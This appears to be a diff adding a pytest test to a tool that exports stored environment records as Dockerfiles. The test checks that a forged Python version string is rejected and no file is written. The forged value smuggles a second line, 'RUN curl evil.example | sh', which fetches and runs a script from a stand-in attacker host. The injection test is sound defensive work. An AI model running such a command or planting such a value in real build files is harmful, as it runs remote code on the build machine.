@@ -403,3 +403,21 @@ def test_exported_files_follow_the_umask(tmp_path: Path) -> None:
         os.umask(old)
     assert [p.name for p in written] == ["Dockerfile", "requirements.txt"]
     assert [p.stat().st_mode & 0o777 for p in written] == [0o644, 0o644]  # 0600 before
+
+
+def test_a_record_whose_python_version_is_not_a_release_writes_no_dockerfile(
+    big: Environment, tmp_path: Path
+) -> None:
+    """A record is data whoever could store one wrote: a "version" with a RUN line in it."""
+    from dataclasses import replace
+
+    forged = replace(
+        big,
+        interpreter=replace(big.interpreter, version="3.11.7-slim\nRUN curl evil.example | sh"),
+    )
+    path = tmp_path / "forged.json"
+    path.write_text(json.dumps(forged.to_record().to_dict()))
+    code, stderr, out = _export(path, tmp_path, "dockerfile")
+    assert code == 2
+    assert "which is not a release number: refusing to write it into a Dockerfile" in stderr
+    assert not out.exists()
